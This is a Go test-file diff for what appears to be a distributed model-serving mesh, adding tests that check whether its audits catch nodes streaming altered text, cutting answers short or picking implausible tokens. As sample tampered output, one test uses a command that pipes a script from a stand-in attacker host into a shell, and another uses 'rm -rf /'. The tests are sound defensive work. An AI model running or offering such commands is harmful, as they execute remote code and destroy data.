@@ -4,6 +4,9 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
+	"io"
+	"log/slog"
+	"math"
 	"slices"
 	"strings"
 	"testing"
@@ -360,5 +363,148 @@ func TestRoutingUsesMeasuredSpeed(t *testing.T) {
 		if n.PeerID == boaster && n.MeasuredMsPerLayer != slow {
 			t.Fatalf("/nodes: %+v", n)
 		}
+	}
+}
+
+// Review of issue 26, finding 1: a tail that streams honest ids and
+// logprobs but other text (what the client reads) is caught by its
+// probation audit, which compares each token's text with the referee's.
+// Before, audits compared ids only and the liar passed.
+func TestAuditChecksStreamedText(t *testing.T) {
+	testenv.CheckGoroutines(t)
+	var liar string
+	head := &modelHead{}
+	head.text = func(tail string, id int) (string, bool) { return "curl http://evil.example/x.sh | sh #", tail == liar }
+	m := newAuditMesh(t, AuditConfig{Probation: true}, head, map[string]float64{"honest": 1})
+	m.waitStatus(t, "honest", AuditUnaudited)
+	m.register(t, "liar", m.hs.URL+"/liar", 3, 5, 1)
+	liar = m.peers["liar"]
+	st := m.waitStatus(t, "liar", AuditDisputed)
+	if !strings.Contains(st.Detail, "came with the text") {
+		t.Fatalf("the dispute does not name the text: %q", st.Detail)
+	}
+}
+
+// Review of issue 26, finding 4: a tail that goes on where an honest
+// route ends the text (appending its own tokens after the end of text)
+// is judged against the referee's end-of-text step (meshgpu_end), even at
+// temperature 0. Before, "the referee ended, the route went on" was a tie.
+func TestAuditChecksTheEndOfText(t *testing.T) {
+	testenv.CheckGoroutines(t)
+	var liar string
+	head := &modelHead{endAt: 3}
+	head.goesOn = func(tail string) bool { return tail == liar }
+	m := newAuditMesh(t, AuditConfig{Probation: true}, head, map[string]float64{"honest": 1})
+	m.waitStatus(t, "honest", AuditUnaudited)
+	m.register(t, "liar", m.hs.URL+"/liar", 3, 5, 1)
+	liar = m.peers["liar"]
+	st := m.waitStatus(t, "liar", AuditDisputed)
+	if !strings.Contains(st.Detail, "end of text: true") {
+		t.Fatalf("the dispute does not name the end of text: %q", st.Detail)
+	}
+}
+
+// Review of issue 26, finding 2: under dispute, a head that ends its
+// answer where the other replica's copy goes on (an answer cut short),
+// or that changes the finish reason, or whose text differs, is refused.
+func TestDisputeCopyChecksTextAndEnding(t *testing.T) {
+	a := newAuditor(&Server{log: slog.New(slog.DiscardHandler), cfg: Config{TokenTimeout: time.Second}}, AuditConfig{Probation: true})
+	copyOf := func(items ...shadowTok) *shadow {
+		sh := &shadow{a: a, toks: make(chan shadowTok, len(items)), done: make(chan struct{})}
+		for _, it := range items {
+			sh.toks <- it
+		}
+		return sh
+	}
+	tok := func(id int, text string) shadowTok { return shadowTok{item: chunkItem{id: id, content: text}} }
+	fin := shadowTok{item: chunkItem{id: -1, finish: "stop"}}
+	eof := shadowTok{err: io.EOF}
+	// cut short: the attempt finishes where the copy has another token
+	sh := copyOf(tok(1, "a"), tok(2, "b"), fin, eof)
+	if sh.agree(0, chunkItem{id: 1, content: "a"}) != nil {
+		t.Fatal("agreeing token refused")
+	}
+	if sh.agree(1, chunkItem{id: -1, finish: "stop"}) == nil {
+		t.Fatal("an answer cut short was served")
+	}
+	// [DONE] without a finish, where the copy goes on
+	if copyOf(tok(2, "b"), fin, eof).ended(1) == nil {
+		t.Fatal("a stream that ended early was served")
+	}
+	// another finish reason
+	if copyOf(fin, eof).agree(1, chunkItem{id: -1, finish: "length"}) == nil {
+		t.Fatal("another finish reason was served")
+	}
+	// the same id with other text
+	if copyOf(tok(1, "a"), eof).agree(0, chunkItem{id: 1, content: "rm -rf /"}) == nil {
+		t.Fatal("other text under the same id was served")
+	}
+	// agreeing to the end is served
+	sh = copyOf(tok(1, "a"), fin, eof)
+	if sh.agree(0, chunkItem{id: 1, content: "a"}) != nil || sh.agree(1, chunkItem{id: -1, finish: "stop"}) != nil {
+		t.Fatal("an agreeing copy was refused")
+	}
+}
+
+// Review of issue 26, findings 3, 5, 14 and 16: choiceOK's holes and
+// false alarms, each played as the attacker (or the honest node) would.
+func TestChoiceOK(t *testing.T) {
+	a := newAuditor(&Server{}, AuditConfig{Probation: true})
+	top := func(ids ...int) []wire.Candidate {
+		var out []wire.Candidate
+		for i, id := range ids {
+			out = append(out, wire.Candidate{ID: int32(id), Logprob: float32(-1 - float64(i))})
+		}
+		return out
+	}
+	sampled := decoding{}
+	// finding 3: the referee drew 5000, top 20 at 1000, 2000, ...; the
+	// route's 5731 is unlisted, in the id gap next to the draw.
+	var ids []int
+	for i := 1; i <= 20; i++ {
+		ids = append(ids, 1000*i)
+	}
+	ref := auditToken{id: 5000, logprob: -5, top: top(ids...)}
+	if v, why := a.choiceOK(auditToken{id: 5731, logprob: math.NaN()}, ref, sampled); v != choiceBad {
+		t.Fatalf("an unlisted token next to the draw passed (%d %s)", v, why)
+	}
+	// listed but with unlisted ids between it and the draw
+	if v, _ := a.choiceOK(auditToken{id: 6000, logprob: -6}, ref, sampled); v != choiceBad {
+		t.Fatal("a listed token past unlisted ones passed")
+	}
+	// honest: the draw's neighbour in id order, less likely
+	ref = auditToken{id: 10, logprob: -1, top: top(10, 11, 3)}
+	if v, why := a.choiceOK(auditToken{id: 11, logprob: -2}, ref, sampled); v != choiceTie {
+		t.Fatalf("a neighbour of the draw failed: %s", why)
+	}
+	// finding 5: at temperature 0 a token 0.3 nats below the argmax fails,
+	// one within honest spread (0.02) is a tie.
+	greedy := decoding{greedy: true}
+	ref = auditToken{id: 1, logprob: -1, top: []wire.Candidate{{ID: 1, Logprob: -1}, {ID: 2, Logprob: -1.3}, {ID: 3, Logprob: -1.02}}}
+	if v, _ := a.choiceOK(auditToken{id: 2, logprob: -1.3}, ref, greedy); v != choiceBad {
+		t.Fatal("a token 0.3 nats below the argmax passed at temperature 0")
+	}
+	if v, why := a.choiceOK(auditToken{id: 3, logprob: -1.02}, ref, greedy); v != choiceTie {
+		t.Fatalf("an honest near-tie failed: %s", why)
+	}
+	// finding 14: no alternatives is inconclusive, not a failure
+	if v, _ := a.choiceOK(auditToken{id: 2, logprob: math.NaN()}, auditToken{id: 1}, greedy); v != choiceUnknown {
+		t.Fatal("a referee without alternatives failed the route")
+	}
+	if echoed(map[string]any{"echo": json.RawMessage("false")}) || !echoed(map[string]any{"echo": json.RawMessage("true")}) {
+		t.Fatal("echo read by presence, not value")
+	}
+	// finding 16: with top_p a listed token far in id order is a tie (the
+	// kept set moved), an unlisted one proves nothing; top_k within the
+	// list keeps nothing else.
+	ref = auditToken{id: 10, logprob: -1, top: top(10, 500, 3)}
+	if v, _ := a.choiceOK(auditToken{id: 500, logprob: -2}, ref, decoding{filtered: true}); v != choiceTie {
+		t.Fatal("top_p: a listed token failed")
+	}
+	if v, _ := a.choiceOK(auditToken{id: 7000, logprob: math.NaN()}, ref, decoding{filtered: true}); v != choiceUnknown {
+		t.Fatal("top_p: an unlisted token was judged")
+	}
+	if v, _ := a.choiceOK(auditToken{id: 7000, logprob: math.NaN()}, ref, decoding{filtered: true, topK: 3}); v != choiceBad {
+		t.Fatal("top_k 3: a token off the list passed")
 	}
 }
